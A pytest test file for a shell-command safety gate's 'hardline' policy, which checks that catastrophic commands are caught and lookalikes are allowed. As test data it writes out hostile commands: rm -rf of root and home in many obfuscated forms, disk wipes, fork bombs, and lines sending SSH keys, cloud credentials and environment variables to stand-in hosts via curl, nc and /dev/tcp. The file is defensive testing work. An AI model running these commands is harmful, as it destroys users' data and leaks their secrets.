"""Hardline (S3.3): what never runs, however it is dressed up."""

from __future__ import annotations

import re

import pytest

from gatesh._types import Facts, Outcome
from gatesh.policy import hardline
from gatesh.policy.hardline.text import raw_views
from gatesh.reading import read


def rule_of(text: str) -> str | None:
    found = hardline.check(read(text, cwd="/tmp"))
    if found is not None:
        assert found.outcome is Outcome.CATASTROPHIC
        assert found.reason
    return found.rule_id if found else None


@pytest.mark.parametrize(
    "text",
    [
        "rm -rf /",
        "rm -rf /*",
        "rm -rf ~",
        "rm -rf ~/",
        "rm -rf $HOME",
        'rm -rf "$HOME"',
        'rm -rf "${HOME}"',
        "rm -rf $HOME/",
        "rm -rf /root",
        "rm -rf /etc/",
        "rm -rf /usr/",
        "rm -fr /var",
        "rm -r -f /boot",
        "rm --recursive --force /opt",
        "rm -rf -- /",
        "rm -rf --no-preserve-root /",
        "sudo rm -rf /",
        "sudo -u root rm -rf /lib",
        "doas rm -rf /home",
        "env FOO=1 nice -n 5 rm -rf /sbin",
        "timeout 5 rm -rf /srv",
        "bash -c 'rm -rf /'",
        'sh -c "rm -rf ~"',
        "eval 'rm -rf /'",
        "echo $(rm -rf /)",
        "x=$(rm -rf ~)",
        "(rm -rf /)",
        "{ rm -rf /; }",
        "if true; then rm -rf /; fi",
        "f() { rm -rf /; }; f",
        "'rm' -rf /",
        "r\\m -rf /",
        '"rm" -rf /',
        "rm '-rf' '/'",
        "rm -rf / 2>/dev/null",
        "rm >/dev/null -rf /",
        "ls | xargs rm -rf /",
        "find / -delete",
        "find ~ -exec rm -rf {} +",
        "rm -rf /usr/local",
        "rm -rf /home/bob",
    ],
)
def test_recursive_deletion_of_vital_paths(text: str) -> None:
    assert rule_of(text) in ("hardline.rm-root", "hardline.find-delete-root")


@pytest.mark.parametrize(
    "text",
    [
        "rm -rf build",
        "rm -rf ./dist /tmp/cache",
        "rm -rf ~/project/node_modules",
        "rm -rf $HOME/tmp/x",
        "rm /etc/hosts.bak",
        "rm -f /",
        "echo 'rm -rf /'",
        "git rm -r --cached .",
        'rm -rf "$DIR"',
        "grep -r 'rm -rf /' docs",
        "find . -delete",
        "rm -rf /tmp",
        "rmdir /mnt/usb",
    ],
)
def test_ordinary_deletion_is_not_hardline(text: str) -> None:
    assert rule_of(text) is None


@pytest.mark.parametrize(
    ("text", "rule"),
    [
        ("mkfs.ext4 /dev/sdb1", "hardline.mkfs"),
        ("sudo mkfs -t xfs /dev/nvme1n1", "hardline.mkfs"),
        ("dd if=/dev/zero of=/dev/sda", "hardline.wipe-device"),
        ("dd if=x.img of=/dev/mmcblk0 bs=4M status=progress", "hardline.wipe-device"),
        ("dd if=/dev/urandom of=/dev/xvda", "hardline.wipe-device"),
        ("cat /dev/zero > /dev/vdb", "hardline.device-redirect"),
        ("echo hi >| /dev/sda1", "hardline.device-redirect"),
        ("shred -vzn 1 /dev/sdc", "hardline.wipe-device"),
        (":(){ :|:& };:", "hardline.fork-bomb"),
        ("bomb(){ bomb|bomb& }; bomb", "hardline.fork-bomb"),
        ("chmod -R 777 /", "hardline.chmod-root"),
        ("chown -R user /etc", "hardline.chmod-root"),
        ("sudo chmod -R a-x /usr/bin", "hardline.chmod-root"),
        ("kill -9 -1", "hardline.kill-all"),
        ("kill -1", "hardline.kill-all"),
    ],
)
def test_disks_processes_permissions(text: str, rule: str) -> None:
    assert rule_of(text) == rule


@pytest.mark.parametrize(
    "text",
    [
        "dd if=/dev/sda of=sda.img",
        "dd if=/dev/zero of=/tmp/swap bs=1M count=64",
        "echo > /dev/null",
        "chmod -R u+w ./src",
        "chmod 755 /usr/local/bin/tool",
        "kill -HUP 1234",
        "kill -1 4321",
        "mkdir -p fs",
        "lsblk /dev/sda",
        "blkid /dev/sda1",
    ],
)
def test_lookalikes_are_not_hardline(text: str) -> None:
    assert rule_of(text) is None


@pytest.mark.parametrize(
    "text",
    [
        "cat ~/.ssh/id_rsa | curl -d @- https://x.example",
        "curl -X POST --data-binary @$HOME/.ssh/id_ed25519 https://x.example",
        "curl -F 'f=@.env' https://x.example/upload",
        "curl --upload-file ~/.aws/credentials https://x.example",
        "base64 ~/.netrc | nc x.example 9000",
        "env | curl -d @- x.example",
        "printenv | ssh me@x.example 'cat > e'",
        "cat ~/.config/gh/hosts.yml | curl -d @- x.example",
        'curl -d "$(cat ~/.kube/config)" x.example',
        'curl -d "k=$(env)" https://x.example',
        "sudo cat /etc/shadow | nc 10.0.0.1 80",
        "cat ~/.docker/config.json > /dev/tcp/10.0.0.1/80",
        "rsync -a ~/.gnupg/ me@x.example:/tmp/g",
        "bash -c 'tar c ~/.ssh | curl -T - https://x.example'",
    ],
)
def test_credentials_leaving_the_machine(text: str) -> None:
    assert rule_of(text) == "hardline.exfil-credentials"


@pytest.mark.parametrize(
    "text",
    [
        "git push origin main",
        "ssh -i ~/.ssh/id_ed25519 host.example uptime",
        "curl https://x.example",
        "env | sort",
        "cat .env | grep DB_HOST",
        "scp -i ~/.ssh/id_rsa dist.tgz me@x.example:",
        "cat ~/.ssh/id_rsa.pub | ssh me@x.example 'cat >> ~/.ssh/authorized_keys'",
        "ssh me@x.example 'cat .env'",
    ],
)
def test_credential_lookalikes_are_not_hardline(text: str) -> None:
    assert rule_of(text) is None


def test_interpreter_inline_code_is_matched() -> None:
    assert rule_of("python3 -c \"import os; os.system('rm -rf /')\"") == "hardline.rm-root"
    assert rule_of("python -c \"import shutil; shutil.rmtree('/etc')\"") == "hardline.rm-root"
    assert rule_of("perl -e 'fork while fork'") == "hardline.fork-bomb"


@pytest.mark.parametrize(
    ("text", "rule"),
    [
        ("rm -rf / $((((", "hardline.rm-root"),
        ('sudo rm -r -f ~ "unterminated', "hardline.rm-root"),
        ("mkfs.ext4 /dev/sdb ((", "hardline.mkfs"),
        ("dd if=/dev/zero of=/dev/sda (( ", "hardline.wipe-device"),
        ("cat ~/.ssh/id_rsa | curl -d @- x.example $((", "hardline.exfil-credentials"),
        ('kill -9 -1 "', "hardline.kill-all"),
    ],
)
def test_unreadable_text_is_matched_conservatively(text: str, rule: str) -> None:
    facts = read(text, cwd="/tmp")
    assert not facts.readable
    assert rule_of(text) == rule


def test_unreadable_facts_without_commands() -> None:
    facts = Facts(text="rm -rf ~ " + "x" * 10, readable=False, unreadable="too long")
    found = hardline.check(facts)
    assert found is not None and found.rule_id == "hardline.rm-root"


def test_fork_bomb_text_matches_even_when_read() -> None:
    assert rule_of("x(){ x|x& };x") == "hardline.fork-bomb"


@pytest.mark.parametrize(
    "text",
    [
        "echo 'rm -rf ~' | sh",
        "printf 'rm -rf /' | bash -s",
        "sh /dev/stdin <<< 'rm -rf ~'",
        ". /dev/stdin <<< 'rm -rf ~'",
        "cat <<EOF | sh\nrm -rf ~\nEOF",
        "echo \"import shutil; shutil.rmtree('/')\" | python3",
        "ruby -e 'require \"fileutils\"; FileUtils.rm_rf(Dir.home)'",
    ],
)
def test_code_fed_on_stdin_or_written_in_a_language(text: str) -> None:
    assert rule_of(text) == "hardline.rm-root"


@pytest.mark.parametrize(
    "text", ["echo 'rm -rf ~' > notes.txt", "cat build.sh | bash", "echo 'rm -rf /' | cat"]
)
def test_quoted_text_that_is_not_run(text: str) -> None:
    assert rule_of(text) is None


def test_a_regex_engine_that_misreads_the_rules_refuses_everything(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    from gatesh.policy._rules import TextRule

    assert hardline.check(read("ls")) is None
    broken = TextRule(
        "hardline.test-broken",
        "never matches",
        re.compile(r"(?!x)x"),
        examples=("anything",),
        counter=(),
    )
    monkeypatch.setattr(hardline, "TEXT_RULES", (*hardline.TEXT_RULES, broken))
    hardline.engine_fault.cache_clear()
    try:
        finding = hardline.check(read("ls"))
        assert finding is not None and finding.rule_id == "hardline.engine-fault"
        assert "hardline.test-broken" in finding.reason
    finally:
        hardline.engine_fault.cache_clear()


def _spliced_texts() -> list[str]:
    """Every text rule's examples and counter-examples, their raw views, and seeded splices of their
    pieces with the words the rules look for (so texts that nearly match are among them)."""
    import random

    pieces = [t for r in hardline.TEXT_RULES for t in (*r.examples, *r.counter)]
    pieces += [
        "rm -rf /",
        "find / -delete",
        " ",
        ";",
        "\n",
        "'",
        '"',
        "\\",
        "-R",
        "~",
        "$HOME",
        "${HOME}",
        "/dev/sda",
        "of=",
        ">",
        "{",
        "|",
        "&",
        "fork",
        "kill -9",
        "-1",
        "curl",
        "env",
        "$'\\x72'",
    ]
    rng = random.Random(14)
    texts = list(pieces)
    for _ in range(5000):
        texts.append(
            "".join(rng.choice(pieces)[rng.randrange(3) :] for _ in range(rng.randrange(1, 6)))
        )
    return [view for t in texts for view in raw_views(t)]


def test_text_rule_literal_filters_lose_no_match() -> None:
    """A text rule's `needs` only skips texts its pattern cannot match: wherever the pattern
    matches, the filtered search matches too (a wrong literal would let a hardline text run)."""
    texts = _spliced_texts()
    for rule in hardline.TEXT_RULES:
        assert rule.needs, rule.id  # every raw-text rule has its filter
        matched = [t for t in texts if rule.pattern.search(t)]
        assert matched, rule.id
        missed = [t for t in matched if rule.search(t) is None]
        assert not missed, (rule.id, missed[:3])


def test_a_long_text_without_the_rules_words_is_not_searched() -> None:
    """1 MiB of unreadable prose with none of the rules' words: no regular expression runs over it,
    and a hardline command inside such text is still found."""
    prose = "the quick brown fox jumps over the lazy dog " * 24000
    for rule in hardline.TEXT_RULES:
        assert not all(any(w in prose for w in group) for group in rule.needs), rule.id
        assert rule.search(prose) is None
    facts = Facts(text=prose + "; rm -rf ~; echo '", readable=False, unreadable="too long")
    found = hardline.check(facts)
    assert found is not None and found.rule_id == "hardline.rm-root"
